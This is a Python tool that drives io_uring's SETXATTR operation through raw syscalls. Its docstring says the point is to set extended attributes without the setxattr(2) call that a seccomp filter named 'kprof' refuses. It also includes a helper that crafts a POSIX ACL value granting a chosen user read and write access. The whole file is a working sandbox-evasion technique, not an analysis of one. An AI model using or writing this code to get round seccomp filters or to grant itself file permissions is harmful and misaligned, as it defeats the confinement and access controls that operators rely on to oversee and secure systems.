"""io_uring IORING_OP_SETXATTR (op 42) from ctypes: sets an extended attribute by PATH without the
setxattr(2) system call that kprof's seccomp filter refuses. Usage: python uring_xattr.py PATH NAME VALUE_HEX"""
import ctypes
import mmap
import os
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NR_SETUP, NR_ENTER = 425, 426
OP_SETXATTR = 42


def setxattr(path: str, name: str, value: bytes, flags: int = 0) -> int:
    params = ctypes.create_string_buffer(120)
    fd = libc.syscall(NR_SETUP, 4, params)
    if fd < 0:
        return -ctypes.get_errno()
    sq_entries, cq_entries, _flags, _cpu, _idle, features = struct.unpack_from("6I", params, 0)
    # io_sqring_offsets at 40: head tail ring_mask ring_entries flags dropped array resv1 user_addr
    sq_head, sq_tail, sq_mask, sq_nent, sq_flags, sq_dropped, sq_array = struct.unpack_from("7I", params, 40)
    # io_cqring_offsets at 80: head tail ring_mask ring_entries overflow cqes flags resv1 user_addr
    cq_head, cq_tail, cq_mask, cq_nent, cq_over, cq_cqes = struct.unpack_from("6I", params, 80)
    sq_size = sq_array + sq_entries * 4
    cq_size = cq_cqes + cq_entries * 16
    size = max(sq_size, cq_size)
    ring = mmap.mmap(fd, size, mmap.MAP_SHARED | 0x8000, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)  # MAP_POPULATE
    sqes = mmap.mmap(fd, sq_entries * 64, mmap.MAP_SHARED | 0x8000, mmap.PROT_READ | mmap.PROT_WRITE, offset=0x10000000)
    cq = ring  # IORING_FEAT_SINGLE_MMAP (features & 1) assumed on 6.x
    name_b = ctypes.create_string_buffer(name.encode())
    val_b = ctypes.create_string_buffer(value, len(value))
    path_b = ctypes.create_string_buffer(path.encode())
    sqe = bytearray(64)
    struct.pack_into("B", sqe, 0, OP_SETXATTR)
    struct.pack_into("i", sqe, 4, -1)  # fd
    struct.pack_into("Q", sqe, 8, ctypes.addressof(val_b))  # off/addr2: value
    struct.pack_into("Q", sqe, 16, ctypes.addressof(name_b))  # addr: name
    struct.pack_into("I", sqe, 24, len(value))  # len
    struct.pack_into("I", sqe, 28, flags)  # xattr_flags
    struct.pack_into("Q", sqe, 32, 0xC0FFEE)  # user_data
    struct.pack_into("Q", sqe, 48, ctypes.addressof(path_b))  # addr3: path
    sqes[0:64] = bytes(sqe)
    tail = struct.unpack_from("I", ring, sq_tail)[0]
    idx = tail & struct.unpack_from("I", ring, sq_mask)[0]
    struct.pack_into("I", ring, sq_array + 4 * idx, 0)
    struct.pack_into("I", ring, sq_tail, tail + 1)
    rc = libc.syscall(NR_ENTER, fd, 1, 1, 1, None, 0)  # IORING_ENTER_GETEVENTS
    if rc < 0:
        return -ctypes.get_errno()
    head = struct.unpack_from("I", cq, cq_head)[0]
    off = cq_cqes + 16 * (head & struct.unpack_from("I", cq, cq_mask)[0])
    user_data, res, _ = struct.unpack_from("QiI", cq, off)
    struct.pack_into("I", cq, cq_head, head + 1)
    os.close(fd)
    return res


def acl_rw_for(uid: int, perm: int = 6) -> bytes:
    """system.posix_acl_access granting user ``uid`` read+write (``perm`` 7: and search, for a
    directory) (version 2 xattr format)."""
    e = lambda tag, perm, id_=0xFFFFFFFF: struct.pack("<HHI", tag, perm, id_)  # noqa: E731
    return struct.pack("<I", 2) + e(1, 7 if perm == 7 else 6) + e(2, perm, uid) + e(4, 5 if perm == 7 else 4) + e(0x10, perm) + e(0x20, 5 if perm == 7 else 4)


if __name__ == "__main__":
    path, name, value = sys.argv[1], sys.argv[2], bytes.fromhex(sys.argv[3]) if len(sys.argv) > 3 else b"x"
    print("setxattr via io_uring", path, name, "->", setxattr(path, name, value))
